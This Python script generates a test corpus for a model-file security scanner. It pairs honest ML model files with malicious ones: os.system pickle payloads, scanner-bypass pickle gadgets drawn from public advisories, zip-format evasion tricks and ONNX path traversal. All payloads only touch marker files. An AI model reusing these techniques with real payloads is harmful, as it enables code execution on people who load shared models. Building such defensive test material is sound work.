#!/usr/bin/python3
"""make_corpus.py OUTDIR: the model-scanner corpus, made by the real libraries.

Run with Debian's /usr/bin/python3 (python3-sklearn, -joblib, -pandas, -torch, -onnx); the
pyenv `python3` that may come first on PATH lacks them. Writes:

  OUTDIR/honest/...     models the libraries write themselves, and whole model directories
                        (Hugging Face and MLflow layouts) with their inert files
  OUTDIR/malicious/...  the same real files with payloads injected, and one file per bypass
                        family of the public picklescan, modelscan and fickling advisories
  OUTDIR/manifest.json  for each file: its kind, the code scan-model must give, and how to
                        load it with the real library to prove the payload runs

Every payload only creates /marker/<name> (`touch`, or a file write), which the proof test
binds to a throw-away directory in a bubblewrap sandbox. NOTHING HERE LOADS A MALICIOUS FILE:
files are built from real objects, from pickle opcodes written by hand, or by rewriting
bytes. safetensors files are written by this script from the format's specification
(Debian ships no safetensors package); everything else comes from the libraries.
"""
import io
import json
import os
import pickle
import random
import shutil
import struct
import sys
import warnings
import zipfile
import zlib

warnings.simplefilter("ignore")

OUT = os.path.abspath(sys.argv[1] if len(sys.argv) > 1 else "corpus")
HONEST = os.path.join(OUT, "honest")
EVIL = os.path.join(OUT, "malicious")
MANIFEST = []


def cmd(name):
    return "touch /marker/%s" % name


def add(kind, path, code=None, load=None, why=""):
    """Records a file: kind honest|malicious, the expected code, the loader that proves it."""
    rel = os.path.relpath(path, OUT)
    MANIFEST.append({"path": rel, "kind": kind, "code": code, "load": load, "marker": os.path.basename(path) if load else None, "why": why})


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return path


# ---------------------------------------------------------------- pickle opcodes, by hand

def op_global(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_str(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def op_bytes(data):
    return b"B" + struct.pack("<I", len(data)) + data


def call(callable_ops, *arg_ops):
    """callable(*args): the callable, MARK, the arguments, TUPLE, REDUCE."""
    return callable_ops + b"(" + b"".join(arg_ops) + b"tR"


def stack_global(module, name):
    return op_str(module) + op_str(name) + b"\x93"


def system(name, protocol=2):
    """os.system('touch /marker/NAME') as pickle writes it on Linux (posix.system)."""
    return call(op_global("posix", "system"), op_str(cmd(name)))


def inject(original, payload):
    """A payload run first, its result popped, then the original pickle unchanged."""
    assert original[0] == 0x80
    return original[:2] + payload + b"0" + original[2:]


def plain(payload, protocol=2):
    return b"\x80" + bytes([protocol]) + payload + b"."


class Reduce:
    """An object that pickles as a call to func(*args)."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def touch(name):
    return Reduce(os.system, (cmd(name),))


# ---------------------------------------------------------------- honest models

def sklearn_models():
    import numpy as np
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_iris
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.cluster import KMeans
    from sklearn.decomposition import PCA
    from sklearn.tree import DecisionTreeClassifier

    X, y = load_iris(return_X_y=True)
    frame = pd.DataFrame(X, columns=["a", "b", "c", "d"]).assign(kind=np.where(y == 0, "x", "y"))
    models = {
        "logistic-regression": LogisticRegression(max_iter=500).fit(X, y),
        "random-forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y),
        "gradient-boosting": GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, y),
        "hist-gradient-boosting": HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y),
        "svc": SVC(probability=True, random_state=0).fit(X, y),
        "kneighbors": KNeighborsClassifier(algorithm="kd_tree").fit(X, y),
        "kmeans": KMeans(n_clusters=3, n_init=3, random_state=0).fit(X),
        "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=50, random_state=0).fit(X, y),
        "decision-tree": DecisionTreeClassifier(random_state=0).fit(X, y),
        "gaussian-nb": GaussianNB().fit(X, y),
        "pca": PCA(n_components=2).fit(X),
        "pipeline-scaler-lr": make_pipeline(StandardScaler(), LogisticRegression(max_iter=500)).fit(X, y),
        "pipeline-column-transformer": make_pipeline(
            ColumnTransformer([("num", StandardScaler(), ["a", "b", "c", "d"]), ("cat", OneHotEncoder(handle_unknown="ignore"), ["kind"])]),
            LogisticRegression(max_iter=500),
        ).fit(frame, y),
        "tfidf-text": make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(["good cat", "bad dog", "good dog", "bad cat"] * 5, [1, 0, 1, 0] * 5),
    }
    return models, X, y, frame


def honest(corpus):
    import joblib
    import numpy as np
    import pandas as pd
    import torch

    models, X, y, frame = sklearn_models()
    for name, model in models.items():
        for protocol in (2, 4, 5):
            add("honest", write(os.path.join(HONEST, "sklearn", "%s-p%d.pkl" % (name, protocol)), pickle.dumps(model, protocol=protocol)))
    forest = models["random-forest"]
    pipeline = models["pipeline-column-transformer"]
    jdir = os.path.join(HONEST, "joblib")
    os.makedirs(jdir, exist_ok=True)
    joblib.dump(forest, os.path.join(jdir, "random-forest.joblib"))
    add("honest", os.path.join(jdir, "random-forest.joblib"))
    joblib.dump(pipeline, os.path.join(jdir, "pipeline.joblib"))
    add("honest", os.path.join(jdir, "pipeline.joblib"))
    joblib.dump({"weights": np.arange(12.0).reshape(3, 4), "labels": np.array(["a", None], dtype=object), "fortran": np.asfortranarray(np.ones((2, 3)))}, os.path.join(jdir, "arrays.joblib"))
    add("honest", os.path.join(jdir, "arrays.joblib"))
    joblib.dump(forest, os.path.join(jdir, "random-forest-p2.joblib"), protocol=2)
    add("honest", os.path.join(jdir, "random-forest-p2.joblib"))
    for method in ("zlib", "gzip", "bz2", "lzma", "xz"):
        path = os.path.join(jdir, "random-forest.joblib.%s" % method)
        joblib.dump(forest, path, compress=(method, 3))
        add("honest", path)

    ndir = os.path.join(HONEST, "numpy")
    os.makedirs(ndir, exist_ok=True)
    arrays = {
        "float64": np.arange(6.0).reshape(2, 3),
        "int32": np.arange(5, dtype=np.int32),
        "bool": np.array([True, False]),
        "unicode": np.array(["setosa", "virginica"]),
        "structured": np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8", (2,))]),
        "fortran": np.asfortranarray(np.ones((3, 2))),
        "big-endian": np.arange(4, dtype=">f8"),
        "datetime": np.array(["2024-01-01", "2024-01-02"], dtype="M8[D]"),
        "empty": np.zeros((0, 4)),
    }
    for name, array in arrays.items():
        np.save(os.path.join(ndir, "%s.npy" % name), array)
        add("honest", os.path.join(ndir, "%s.npy" % name))
    np.savez(os.path.join(ndir, "arrays.npz"), **{k: v for k, v in arrays.items()})
    add("honest", os.path.join(ndir, "arrays.npz"))
    np.savez_compressed(os.path.join(ndir, "arrays-compressed.npz"), **{k: v for k, v in arrays.items()})
    add("honest", os.path.join(ndir, "arrays-compressed.npz"))

    pdir = os.path.join(HONEST, "pandas")
    os.makedirs(pdir, exist_ok=True)
    df = frame.assign(when=pd.date_range("2024-01-01", periods=len(frame)), cat=pd.Categorical(np.where(y == 1, "u", "v")), n=pd.array(y, dtype="Int64"))
    for protocol in (2, 4, 5):
        df.to_pickle(os.path.join(pdir, "frame-p%d.pkl" % protocol), protocol=protocol)
        add("honest", os.path.join(pdir, "frame-p%d.pkl" % protocol))
    df.to_pickle(os.path.join(pdir, "frame.pkl.gz"), compression="gzip")
    add("honest", os.path.join(pdir, "frame.pkl.gz"))

    tdir = os.path.join(HONEST, "torch")
    os.makedirs(tdir, exist_ok=True)
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 16), torch.nn.ReLU(), torch.nn.Dropout(0.1), torch.nn.Linear(16, 3))
    optimizer = torch.optim.Adam(net.parameters(), lr=0.01)
    loss = torch.nn.functional.cross_entropy(net(torch.tensor(X, dtype=torch.float32)), torch.tensor(y))
    loss.backward()
    optimizer.step()
    torch.save(net.state_dict(), os.path.join(tdir, "state_dict.pt"))
    add("honest", os.path.join(tdir, "state_dict.pt"))
    torch.save({"model": net.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "loss": float(loss)}, os.path.join(tdir, "checkpoint.pt"))
    add("honest", os.path.join(tdir, "checkpoint.pt"))
    torch.save(net.state_dict(), os.path.join(tdir, "state_dict-legacy.pt"), _use_new_zipfile_serialization=False)
    add("honest", os.path.join(tdir, "state_dict-legacy.pt"))
    torch.save({"model": net.state_dict(), "optimizer": optimizer.state_dict()}, os.path.join(tdir, "checkpoint-legacy.pt"), _use_new_zipfile_serialization=False)
    add("honest", os.path.join(tdir, "checkpoint-legacy.pt"))
    torch.save(net, os.path.join(tdir, "full-model.pt"))
    add("honest", os.path.join(tdir, "full-model.pt"))
    torch.jit.save(torch.jit.script(net), os.path.join(tdir, "torchscript.pt"))
    add("honest", os.path.join(tdir, "torchscript.pt"))
    torch.jit.save(torch.jit.trace(net.eval(), torch.zeros(1, 4)), os.path.join(tdir, "torchscript-traced.pt"))
    add("honest", os.path.join(tdir, "torchscript-traced.pt"))
    tensors = {k: v.detach() for k, v in net.state_dict().items()}
    write(os.path.join(tdir, "model.safetensors"), safetensors_bytes(tensors, {"format": "pt"}))
    add("honest", os.path.join(tdir, "model.safetensors"))
    write(os.path.join(tdir, "dtypes.safetensors"), safetensors_bytes({
        "f16": torch.ones(3, dtype=torch.float16), "bf16": torch.ones(2, dtype=torch.bfloat16), "i64": torch.arange(3),
        "u8": torch.arange(4, dtype=torch.uint8), "bool": torch.tensor([True]), "f64": torch.zeros(2, 2, dtype=torch.float64),
        "empty": torch.zeros(0)}, None))
    add("honest", os.path.join(tdir, "dtypes.safetensors"))

    odir = os.path.join(HONEST, "onnx")
    os.makedirs(odir, exist_ok=True)
    torch.onnx.export(net.eval(), torch.zeros(1, 4), os.path.join(odir, "model.onnx"), input_names=["x"], output_names=["y"])
    add("honest", os.path.join(odir, "model.onnx"))
    import onnx

    model = onnx.load(os.path.join(odir, "model.onnx"))
    os.makedirs(os.path.join(odir, "external"), exist_ok=True)
    onnx.save_model(model, os.path.join(odir, "external", "model.onnx"), save_as_external_data=True, all_tensors_to_one_file=True, location="weights.bin", size_threshold=0)
    add("honest", os.path.join(odir, "external", "model.onnx"))
    add("honest", os.path.join(odir, "external", "weights.bin"))

    # A Hugging Face model directory: configs, tokenizer files, a README, an image, weights.
    hf = os.path.join(HONEST, "hf-model")
    os.makedirs(hf, exist_ok=True)
    files = {
        "config.json": json.dumps({"architectures": ["TinyNet"], "hidden_size": 16, "num_labels": 3, "torch_dtype": "float32", "initializer_range": 0.02}, indent=2).encode(),
        "generation_config.json": b'{\n  "max_length": 20\n}\n',
        "tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0, "[UNK]": 1, "iris": 2}}}).encode(),
        "tokenizer_config.json": b'{"do_lower_case": true, "model_max_length": 512}',
        "special_tokens_map.json": b'{"unk_token": "[UNK]", "pad_token": "[PAD]"}',
        "vocab.txt": b"[PAD]\n[UNK]\niris\nsetosa\n",
        "merges.txt": b"#version: 0.2\ni r\nir is\n",
        "README.md": "# TinyNet\n\nA tiny classifier for the iris data \u2014 for tests only.\n\n| metric | value |\n|---|---|\n| accuracy | 0.9 |\n".encode(),
        ".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "eval.csv": b"id,label,score\n1,setosa,0.98\n2,virginica,0.91\n",
        "logo.png": png_bytes(),
        "spiece.model": sentencepiece_bytes(),
        "model.safetensors": safetensors_bytes(tensors, {"format": "pt"}),
    }
    for name, data in files.items():
        add("honest", write(os.path.join(hf, name), data))
    shutil.copy(os.path.join(tdir, "state_dict.pt"), os.path.join(hf, "pytorch_model.bin"))
    add("honest", os.path.join(hf, "pytorch_model.bin"))

    # An MLflow model directory (the layout mlflow.sklearn.save_model writes).
    ml = os.path.join(HONEST, "mlflow-model")
    os.makedirs(ml, exist_ok=True)
    mlfiles = {
        "MLmodel": b"flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.2\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.2.1\nmlflow_version: 2.9.2\nmodel_uuid: 0d1e6a2c6f2a4a3e9b1f8f3c2e0d9a77\nutc_time_created: '2024-01-01 00:00:00.000000'\n",
        "conda.yaml": b"channels:\n- conda-forge\ndependencies:\n- python=3.11.2\n- pip:\n  - mlflow==2.9.2\n  - scikit-learn==1.2.1\nname: mlflow-env\n",
        "python_env.yaml": b"python: 3.11.2\nbuild_dependencies:\n- pip\ndependencies:\n- -r requirements.txt\n",
        "requirements.txt": b"mlflow==2.9.2\nscikit-learn==1.2.1\n",
        "model.pkl": pickle.dumps(models["pipeline-scaler-lr"], protocol=4),
        "input_example.json": b'{"columns": ["a", "b", "c", "d"], "data": [[5.1, 3.5, 1.4, 0.2]]}',
    }
    for name, data in mlfiles.items():
        add("honest", write(os.path.join(ml, name), data))
    add("honest", write(os.path.join(HONEST, "empty.txt"), b""))
    return models, forest


def safetensors_bytes(tensors, metadata):
    """The safetensors layout: u64 header length, JSON header (padded with spaces to 8), data."""
    import torch

    names = {torch.float64: "F64", torch.float32: "F32", torch.float16: "F16", torch.bfloat16: "BF16", torch.int64: "I64",
             torch.int32: "I32", torch.int16: "I16", torch.int8: "I8", torch.uint8: "U8", torch.bool: "BOOL"}
    header, chunks, offset = {}, [], 0
    if metadata:
        header["__metadata__"] = metadata
    for name in sorted(tensors):
        t = tensors[name].contiguous()
        data = t.view(torch.uint8).numpy().tobytes() if t.numel() else b""
        header[name] = {"dtype": names[t.dtype], "shape": list(t.shape), "data_offsets": [offset, offset + len(data)]}
        chunks.append(data)
        offset += len(data)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + b"".join(chunks)


def png_bytes():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes([x * 16, 128, 255 - x * 16]) * 4 for x in range(4))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def sentencepiece_bytes():
    """A small SentencePiece ModelProto: pieces (field 1: piece, score, type) and a trainer spec."""

    def field(number, data):
        return bytes([number << 3 | 2, len(data)]) + data

    pieces = b"".join(field(1, field(1, p.encode()) + b"\x15" + struct.pack("<f", -float(i)) + b"\x18\x01") for i, p in enumerate(["<unk>", "\u2581iris", "s"]))
    return pieces + field(2, b"\x08\x03")


# ---------------------------------------------------------------- malicious models

def rewrite_zip(src, dst, change):
    """Copies a zip, letting `change(name, data)` return new data (or None to keep)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            new = change(info.filename, data)
            zout.writestr(info, data if new is None else new)


def zip_offsets(data, name):
    """(local header offset, central directory record offset) of `name` in zip bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(name)
    at = data.find(b"PK\x01\x02")
    while at != -1:
        n = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + n] == name.encode():
            return info.header_offset, at
        at = data.find(b"PK\x01\x02", at + 4)
    raise KeyError(name)


def evil_torch_zip(base, name, dst_name):
    """torch's data.pkl with a payload injected before the state dict."""
    dst = os.path.join(EVIL, dst_name)
    rewrite_zip(base, dst, lambda n, d: inject(d, system(name) ) if n.endswith("/data.pkl") else None)
    return dst


def malicious(models, forest):
    import joblib
    import numpy as np
    import pandas as pd
    import torch

    os.makedirs(EVIL, exist_ok=True)
    tdir = os.path.join(HONEST, "torch")

    # A REDUCE prepended to real scikit-learn pickles, at each protocol.
    for protocol in (2, 4, 5):
        name = "sklearn-reduce-prepended-p%d.pkl" % protocol
        add("malicious", write(os.path.join(EVIL, name), inject(pickle.dumps(models["random-forest"], protocol=protocol), system(name))), "E_MODEL_UNSAFE", "pickle", "os.system prepended to a real RandomForest pickle")
    name = "sklearn-nested-reduce-p4.pkl"
    model = models["pipeline-scaler-lr"]
    model.steps[0][1].evil_ = touch(name)
    add("malicious", write(os.path.join(EVIL, name), pickle.dumps(model, protocol=4)), "E_MODEL_UNSAFE", "pickle", "a __reduce__ object inside a fitted estimator's state")
    del model.steps[0][1].evil_

    # torch: a payload in data.pkl; the legacy format; a full checkpoint.
    name = "torch-data-pkl-payload.pt"
    add("malicious", evil_torch_zip(os.path.join(tdir, "state_dict.pt"), name, name), "E_MODEL_UNSAFE", "torch", "os.system injected into a real state_dict's data.pkl")
    name = "torch-checkpoint-reduce.pt"
    buffer = io.BytesIO()
    torch.save({"model": torch.nn.Linear(2, 2).state_dict(), "hook": touch(name)}, buffer)
    add("malicious", write(os.path.join(EVIL, name), buffer.getvalue()), "E_MODEL_UNSAFE", "torch", "a __reduce__ object saved with torch.save")
    name = "torch-legacy-reduce.pt"
    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2), "evil": touch(name)}, buffer, _use_new_zipfile_serialization=False)
    add("malicious", write(os.path.join(EVIL, name), buffer.getvalue()), "E_MODEL_UNSAFE", "torch", "the legacy format with a payload in its object pickle")
    name = "torch-legacy-sysinfo-payload.pt"
    data = open(os.path.join(tdir, "state_dict-legacy.pt"), "rb").read()
    # The third pickle (system info) starts after the magic number (15 bytes) and the version (6).
    add("malicious", write(os.path.join(EVIL, name), data[:21] + inject(data[21:], system(name))), "E_MODEL_UNSAFE", "torch", "the legacy format with a payload in a later pickle (system info)")

    # numpy: object arrays carrying a payload.
    name = "numpy-object-array.npy"
    buffer = io.BytesIO()
    np.save(buffer, np.array([1, touch(name)], dtype=object), allow_pickle=True)
    add("malicious", write(os.path.join(EVIL, name), buffer.getvalue()), "E_MODEL_UNSAFE", "numpy", "an object array whose pickle calls os.system")
    name = "numpy-object-array.npz"
    buffer = io.BytesIO()
    np.savez(buffer, weights=np.arange(3.0), meta=np.array([touch(name)], dtype=object))
    add("malicious", write(os.path.join(EVIL, name), buffer.getvalue()), "E_MODEL_UNSAFE", "numpy", "an npz member that is an object array with a payload")

    # joblib: a __reduce__ object after the numpy buffers; compressed too.
    name = "joblib-reduce-after-arrays.joblib"
    joblib.dump({"weights": np.arange(100.0), "forest": forest, "evil": touch(name)}, os.path.join(EVIL, name))
    add("malicious", os.path.join(EVIL, name), "E_MODEL_UNSAFE", "joblib", "a __reduce__ object after the array data")
    name = "joblib-reduce.joblib.xz"
    joblib.dump({"weights": np.arange(10.0), "evil": touch(name)}, os.path.join(EVIL, name), compress=("xz", 3))
    add("malicious", os.path.join(EVIL, name), "E_MODEL_UNSAFE", "joblib", "an xz-compressed joblib file with a payload")
    name = "joblib-reduce.joblib.bz2"
    joblib.dump({"evil": touch(name)}, os.path.join(EVIL, name), compress=("bz2", 3))
    add("malicious", os.path.join(EVIL, name), "E_MODEL_UNSAFE", "joblib", "a bz2-compressed joblib file with a payload")

    # A pickle behind a safe format's name: torch.load runs it (it is not a zip: the legacy path).
    for ext in ("safetensors", "onnx", "npy"):
        name = "pickle-named.%s" % ext
        add("malicious", write(os.path.join(EVIL, name), plain(system(name))), "E_MODEL_UNSAFE", "torch", "a pickle behind a .%s name" % ext)

    # pandas: a DataFrame pickle with a payload injected.
    name = "pandas-frame-payload.pkl"
    add("malicious", write(os.path.join(EVIL, name), inject(pickle.dumps(pd.DataFrame({"a": [1, 2]}), protocol=4), system(name))), "E_MODEL_UNSAFE", "pandas", "os.system injected into a DataFrame pickle")

    # safetensors: offsets past the end, an absurd header length, overlapping tensors.
    good = open(os.path.join(tdir, "model.safetensors"), "rb").read()
    n = struct.unpack("<Q", good[:8])[0]
    header = json.loads(good[8:8 + n])
    first = sorted(k for k in header if k != "__metadata__")[0]
    bad = dict(header)
    bad[first] = dict(header[first], data_offsets=[header[first]["data_offsets"][0], header[first]["data_offsets"][1] + 1 << 30])
    add("malicious", write(os.path.join(EVIL, "safetensors-offsets-past-end.safetensors"), rebuild_safetensors(bad, good[8 + n:])), "E_MODEL_MALFORMED", None, "data_offsets past the end of the file")
    add("malicious", write(os.path.join(EVIL, "safetensors-absurd-header.safetensors"), struct.pack("<Q", 2 ** 62) + good[8:]), "E_MODEL_MALFORMED", None, "a header length of 2^62")
    overlap = dict(header)
    keys = sorted(k for k in header if k != "__metadata__")
    overlap[keys[1]] = dict(header[keys[0]])  # the same bytes as the first tensor
    add("malicious", write(os.path.join(EVIL, "safetensors-overlap.safetensors"), rebuild_safetensors(overlap, good[8 + n:])), "E_MODEL_MALFORMED", None, "two tensors over the same bytes")
    meta = dict(header, __metadata__={"format": "pt", "nested": {"a": 1}})
    add("malicious", write(os.path.join(EVIL, "safetensors-metadata-not-strings.safetensors"), rebuild_safetensors(meta, good[8 + n:])), "E_MODEL_MALFORMED", None, "__metadata__ with a non-string value")

    # ONNX: external data outside the model's directory (onnx 1.12 reads it: CVE-2022-25882).
    import onnx
    from onnx import numpy_helper

    secret_dir = os.path.join(EVIL, "onnx-secret")
    os.makedirs(secret_dir, exist_ok=True)
    # Debian's onnx 1.12 strips leading "/" and "." from a location (the incomplete first fix),
    # so the traversals that run there start with a directory name.
    variants = (
        ("dotdot", "sub/../../onnx-secret/secret.bin", "onnx"),
        ("to-root", "sub/" + "../" * 16 + "corpus-secret/secret.bin", "onnx"),
        ("symlink", "link/secret.bin", "onnx"),
        ("absolute", "/corpus-secret/secret.bin", None),
        ("leading-dotdot", "../onnx-secret/secret.bin", None),
    )
    for variant, location, loader in variants:
        d = os.path.join(EVIL, "onnx-external-%s" % variant)
        os.makedirs(os.path.join(d, "sub"), exist_ok=True)
        name = "onnx-external-%s.onnx" % variant
        model = onnx.load(os.path.join(HONEST, "onnx", "model.onnx"))
        tensor = model.graph.initializer[0]
        raw = numpy_helper.to_array(tensor).tobytes()
        write(os.path.join(secret_dir, "secret.bin"), b"S" * len(raw))
        tensor.ClearField("raw_data")
        tensor.data_location = onnx.TensorProto.EXTERNAL
        del tensor.external_data[:]
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", location
        if variant == "symlink":
            os.symlink("../onnx-secret", os.path.join(d, "link"))
        write(os.path.join(d, name), model.SerializeToString())
        add("malicious", os.path.join(d, name), "E_MODEL_UNSAFE", loader, "external data %s outside the model's directory%s" % (location, "" if loader else " (onnx 1.12 as Debian ships it strips the leading characters; other versions before 1.13 follow it)"))

    # Zip tricks on a torch checkpoint whose data.pkl carries a payload.
    base = open(os.path.join(tdir, "state_dict.pt"), "rb").read()
    for trick in ("crc", "flag-encrypted", "flag-0x20", "central-directory-name", "duplicate-data-pkl", "hidden-local-header"):
        name = "zip-%s.pt" % trick
        tmp = os.path.join(OUT, "tmp-%s" % name)
        rewrite_zip(os.path.join(tdir, "state_dict.pt"), tmp, lambda n, d: inject(d, system(name)) if n.endswith("/data.pkl") else None)
        data = bytearray(open(tmp, "rb").read())
        os.remove(tmp)
        pkl = [n for n in zipfile.ZipFile(io.BytesIO(bytes(data))).namelist() if n.endswith("/data.pkl")][0]
        local, central = zip_offsets(bytes(data), pkl)
        if trick == "crc":
            struct.pack_into("<I", data, local + 14, struct.unpack_from("<I", data, local + 14)[0] ^ 0xFFFF)
            struct.pack_into("<I", data, central + 16, struct.unpack_from("<I", data, central + 16)[0] ^ 0xFFFF)
        elif trick.startswith("flag"):
            # In the local header only: Python's zipfile reads it and refuses (encrypted,
            # or "compressed patched data"); PyTorch's reader goes by the central directory.
            bit = 0x1 if trick == "flag-encrypted" else 0x20
            struct.pack_into("<H", data, local + 6, struct.unpack_from("<H", data, local + 6)[0] | bit)
        elif trick == "central-directory-name":
            n = struct.unpack_from("<H", data, local + 26)[0]
            data[local + 30 + n - 5] = ord("X")  # the local header says archive/dataXpkl
        elif trick == "duplicate-data-pkl":
            data = bytearray(duplicate_member(bytes(data), os.path.join(tdir, "state_dict.pt")))
        elif trick == "hidden-local-header":
            data = bytearray(hidden_local_header(bytes(data)))
        add("malicious", write(os.path.join(EVIL, name), bytes(data)), "E_MODEL_UNSAFE", "torch", "zip trick: %s, with a payload in data.pkl" % trick)
    # Structural zip attacks (no code: the scanner refuses the container).
    write(os.path.join(EVIL, "zip-path-traversal.zip"), make_zip([("../../etc/evil.pkl", plain(system("zip-path-traversal.zip")))]))
    add("malicious", os.path.join(EVIL, "zip-path-traversal.zip"), "E_MODEL_UNSAFE", None, "a member named ../../etc/evil.pkl (and a payload in it)")
    write(os.path.join(EVIL, "zip-bomb.zip"), make_zip([("weights.bin", b"\x00" * (64 * 1024 * 1024))], deflate=True))
    add("malicious", os.path.join(EVIL, "zip-bomb.zip"), "E_LIMIT", None, "one member inflating 64 MiB from about 64 KiB")
    inner = make_zip([("archive/data.pkl", plain(system("zip-nested.zip")))])
    write(os.path.join(EVIL, "zip-nested.zip"), make_zip([("outer/model.zip", inner)]))
    add("malicious", os.path.join(EVIL, "zip-nested.zip"), "E_MODEL_UNSAFE", None, "a zip inside a zip holding a payload pickle")
    write(os.path.join(EVIL, "zip-pickle-member.zip"), make_zip([("weights.dat", plain(system("zip-pickle-member.zip")))]))
    add("malicious", os.path.join(EVIL, "zip-pickle-member.zip"), "E_MODEL_UNSAFE", None, "a pickle member without a .pkl name (GHSA-769v-p64c-89pr)")
    advisories()


def rebuild_safetensors(header, data):
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def make_zip(members, deflate=False):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buffer.getvalue()


def duplicate_member(data, honest_path):
    """The archive with a second archive/data.pkl (the honest one) before the central directory."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        entries = [(i, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(honest_path) as z:
        pkl = [n for n in z.namelist() if n.endswith("/data.pkl")][0]
        clean = z.read(pkl)
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as out:
            for info, body in entries:
                out.writestr(info, body)
            out.writestr(zipfile.ZipInfo(pkl), clean)
    return buffer.getvalue()


def hidden_local_header(data):
    """A local header + pickle that no central directory record names, slipped in at the front."""
    payload = plain(system("zip-hidden-local-header.pt"))
    hidden = make_zip([("archive/extra/hidden.pkl", payload)])
    local = hidden[: hidden.find(b"PK\x01\x02")]
    out = bytearray(local + data)
    # Shift every central directory offset by the bytes put in front.
    eocd = out.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<I", out, eocd + 16)[0] + len(local)
    struct.pack_into("<I", out, eocd + 16, cd_offset)
    at = cd_offset
    while out[at:at + 4] == b"PK\x01\x02":
        struct.pack_into("<I", out, at + 42, struct.unpack_from("<I", out, at + 42)[0] + len(local))
        n, m, k = struct.unpack_from("<HHH", out, at + 28)
        at += 46 + n + m + k
    return bytes(out)


def advisories():
    """One file per bypass family of the public advisories (our own files; see the README)."""
    d = os.path.join(EVIL, "advisories")
    os.makedirs(d, exist_ok=True)

    def family(name, body, why, load="pickle", protocol=4, code="E_MODEL_UNSAFE"):
        add("malicious", write(os.path.join(d, name), plain(body, protocol)), code, load, why)

    family("submodule-asyncio-unix-events.pkl",
           call(stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"N", op_str(cmd("submodule-asyncio-unix-events.pkl")), b"\x88NNNK\x00"),
           "picklescan CVE-2025-10157 / GHSA-f7qq-56ww-84cr: a dangerous function reached through a submodule (asyncio.unix_events)")
    family("file-io.pkl", call(stack_global("_io", "FileIO"), op_str("/marker/file-io.pkl"), op_str("w")),
           "picklescan / fickling: _io.FileIO writes files")
    partial = call(stack_global("functools", "partial"), stack_global("posix", "system"), op_str(cmd("functools-partial.pkl")))
    family("functools-partial.pkl", partial + b")R", "picklescan: functools.partial(os.system, cmd) called through a second REDUCE")
    sysmodules = stack_global("sys", "modules")
    posix = call(call(stack_global("_operator", "itemgetter"), op_str("posix")), sysmodules)
    family("operator-getters.pkl", call(call(stack_global("_operator", "methodcaller"), op_str("system"), op_str(cmd("operator-getters.pkl"))), posix),
           "picklescan GHSA-m273-6v24-x4m4, GHSA-955r-x9j8-7rhh: _operator.itemgetter and methodcaller reach os.system")
    inner = plain(system("pickle-in-pickle.pkl"), 2)
    family("pickle-in-pickle.pkl", call(stack_global("_pickle", "loads"), op_bytes(inner)),
           "picklescan GHSA-84r2-jw7c-4r5q, modelscan #267: a nested pickle through _pickle.loads")
    code_bytes = __import__("marshal").dumps(compile("__import__('os').system(%r)" % cmd("code-object.pkl"), "<model>", "exec"))
    function = call(stack_global("types", "FunctionType"), call(stack_global("marshal", "loads"), op_bytes(code_bytes)), b"}")
    family("code-object.pkl", function + b")R", "fickling GHSA-565g-hwwr-4pp3, cloudpickle-style: a code object (marshal) made a function (types.FunctionType) and called")
